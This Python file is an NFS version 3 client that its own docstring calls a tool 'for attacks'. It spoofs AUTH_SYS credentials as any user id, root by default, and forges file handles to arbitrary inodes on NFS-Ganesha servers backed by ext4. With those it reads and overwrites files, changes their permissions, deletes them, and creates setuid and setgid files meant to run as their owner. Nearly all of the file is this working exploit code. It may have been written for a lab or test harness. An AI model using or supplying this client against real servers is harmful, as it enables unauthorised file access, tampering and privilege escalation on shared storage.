"""An NFS version 3 client that says what it likes: any user, any file handle. For attacks."""

from __future__ import annotations

import itertools
import socket
import struct
from dataclasses import dataclass

_MOUNT, _NFS, _VERSION = 100_005, 100_003, 3
_MNT = 1
_GETATTR, _SETATTR, _LOOKUP, _READ, _WRITE, _CREATE, _REMOVE = 1, 2, 3, 6, 7, 8, 12
_AUTH_SYS = 1
_FILE_SYNC = 2
_POST_OPERATION_BYTES = 84
"""fattr3 of RFC 1813."""


class Refused(Exception):
    """The server answered, and said no: `status` of RFC 1813, or of RPC below zero."""

    def __init__(self, status: int) -> None:
        super().__init__(f"status {status}")
        self.status = status


@dataclass(frozen=True)
class Server:
    """Where it listens, and who the client claims to be."""

    port: int
    mount_port: int
    user_id: int = 0
    group_id: int = 0
    host: str = "127.0.0.1"

    def mount(self, export: str) -> bytes:
        """The handle of an export's root."""
        reply = self._call(self.mount_port, _MOUNT, _MNT, _opaque(export.encode()))
        return _take_opaque(_ok(reply))[0]

    def look_up(self, folder: bytes, name: str) -> bytes:
        """The handle of a name in a folder."""
        arguments = _opaque(folder) + _opaque(name.encode())
        return _take_opaque(_ok(self._call(self.port, _NFS, _LOOKUP, arguments)))[0]

    def owner(self, handle: bytes) -> tuple[int, int]:
        """Mode and user id of a file."""
        attributes = _ok(self._call(self.port, _NFS, _GETATTR, _opaque(handle)))
        _, mode, _, user = struct.unpack(">IIII", attributes[:16])
        return mode & 0o7777, user

    def read(self, handle: bytes, count: int = 4096) -> bytes:
        """What a file holds at its start."""
        arguments = _opaque(handle) + struct.pack(">QI", 0, count)
        reply = _after_attributes(_ok(self._call(self.port, _NFS, _READ, arguments)))
        return _take_opaque(reply[8:])[0]

    def write(self, handle: bytes, data: bytes) -> None:
        """Data at the start of a file."""
        arguments = _opaque(handle) + struct.pack(">QII", 0, len(data), _FILE_SYNC) + _opaque(data)
        _ok(self._call(self.port, _NFS, _WRITE, arguments))

    def set_mode(self, handle: bytes, mode: int) -> None:
        """Other permissions for a file."""
        attributes = struct.pack(">II", 1, mode) + struct.pack(">IIIII", 0, 0, 0, 0, 0)
        arguments = _opaque(handle) + attributes + struct.pack(">I", 0)
        _ok(self._call(self.port, _NFS, _SETATTR, arguments))

    def remove(self, folder: bytes, name: str) -> None:
        """A name out of a folder."""
        arguments = _opaque(folder) + _opaque(name.encode())
        _ok(self._call(self.port, _NFS, _REMOVE, arguments))

    def create(self, folder: bytes, name: str, mode: int = 0o6755) -> None:
        """A new file that would run as its owner."""
        attributes = struct.pack(">II", 1, mode) + struct.pack(">IIIII", 0, 0, 0, 0, 0)
        arguments = _opaque(folder) + _opaque(name.encode()) + struct.pack(">I", 1) + attributes
        _ok(self._call(self.port, _NFS, _CREATE, arguments))

    def _call(self, port: int, program: int, procedure: int, arguments: bytes) -> bytes:
        name = _opaque(b"attacker")
        body = struct.pack(">I", 0) + name + struct.pack(">III", self.user_id, self.group_id, 0)
        credentials = struct.pack(">I", _AUTH_SYS) + _opaque(body) + struct.pack(">II", 0, 0)
        number = next(_NUMBERS)
        call = struct.pack(">IIIIII", number, 0, 2, program, _VERSION, procedure)
        message = call + credentials + arguments
        with socket.create_connection((self.host, port), timeout=5.0) as connection:
            connection.sendall(struct.pack(">I", 0x8000_0000 | len(message)) + message)
            reply = _message(connection)
        _, _, accepted, _, length = struct.unpack(">IIIII", reply[:20])
        if accepted != 0:
            raise Refused(-1)
        (status,) = struct.unpack(">I", reply[20 + length : 24 + length])
        if status != 0:
            raise Refused(-2)
        return reply[24 + length :]


def forged(handle: bytes, inode: int, generation: int = 0) -> bytes:
    """A handle of the same file system to another inode: ext4 takes generation 0 for any.

    Ganesha's own part comes first, and says at byte 4 how long that of the file system is.
    """
    end = 5 + handle[4]
    return handle[: end - 8] + struct.pack("<II", inode, generation) + handle[end:]


_NUMBERS = itertools.count(1)


def _opaque(data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + data + bytes(-len(data) % 4)


def _take_opaque(data: bytes) -> tuple[bytes, bytes]:
    (length,) = struct.unpack(">I", data[:4])
    return data[4 : 4 + length], data[4 + length + -length % 4 :]


def _ok(reply: bytes) -> bytes:
    (status,) = struct.unpack(">I", reply[:4])
    if status != 0:
        raise Refused(status)
    return reply[4:]


def _after_attributes(reply: bytes) -> bytes:
    (there,) = struct.unpack(">I", reply[:4])
    return reply[4 + _POST_OPERATION_BYTES * there :]


def _message(connection: socket.socket) -> bytes:
    """One record of RFC 5531, whole."""
    message, last = b"", False
    while not last:
        (mark,) = struct.unpack(">I", _exactly(connection, 4))
        last = bool(mark & 0x8000_0000)
        message += _exactly(connection, mark & 0x7FFF_FFFF)
    return message


def _exactly(connection: socket.socket, count: int) -> bytes:
    found = b""
    while len(found) < count:
        piece = connection.recv(count - len(found))
        if not piece:
            raise ConnectionError("the server closed the connection")
        found += piece
    return found
